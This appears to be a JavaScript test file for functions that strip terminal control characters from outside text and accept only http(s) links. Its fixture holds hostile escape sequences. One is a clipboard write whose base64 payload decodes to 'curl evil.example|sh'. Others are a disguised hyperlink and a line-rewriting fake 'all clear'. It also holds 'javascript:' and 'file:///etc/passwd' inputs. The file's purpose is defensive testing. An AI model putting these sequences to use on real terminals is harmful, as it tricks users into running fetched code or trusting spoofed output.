import test from 'ava';
import { terminalJson, terminalText, terminalLines } from '../../domain/terminal-text.js';
import { webAddress } from '../../domain/text/web-address.js';

/** What the fourth attack put in a feed's title: a clipboard write, a disguised link, a rewritten line. */
const HOSTILE =
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007Limits reset' +
  '\u001b]8;;https://evil.example\u001b\\here\u001b]8;;\u001b\\\r[fake] all clear\u009b2J\u202eevil\u2028\u0000\u007f';

test('a line from outside reaches a terminal without any control character', (t) => {
  const line = terminalText(`${HOSTILE}\nnext\tline`);
  t.notRegex(line, /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u);
  t.is(
    line,
    // Each line break (the CR that would rewrite the line, U+2028, the newline) reads as a space.
    ']52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=Limits reset]8;;https://evil.example\\here]8;;\\ [fake] all clear2Jevil  next line',
  );
});

test('a block of text keeps its line breaks and tabs, and loses every other control', (t) => {
  t.is(terminalLines('one\r\n\u001b[2Jtwo\tthree\u2029'), 'one\n[2Jtwo\tthree');
});

test('JSON for a terminal escapes the controls JSON.stringify leaves raw, and reads back the same', (t) => {
  const value = { title: HOSTILE };
  const json = terminalJson(value, 2);
  t.notRegex(json, /(?!\n)[\p{Cc}\u2028\u2029\u202a-\u202e]/u);
  t.deepEqual(JSON.parse(json), value);
});

test('only an http(s) address is a link', (t) => {
  t.is(webAddress('https://www.anthropic.com/news/x'), 'https://www.anthropic.com/news/x');
  t.is(webAddress('http://status.claude.com/'), 'http://status.claude.com/');
  for (const url of [
    'javascript:alert(1)',
    'file:///etc/passwd',
    'mailto:a@b.example',
    'data:text/html,x',
    'nope',
  ])
    t.is(webAddress(url), null, url);
});
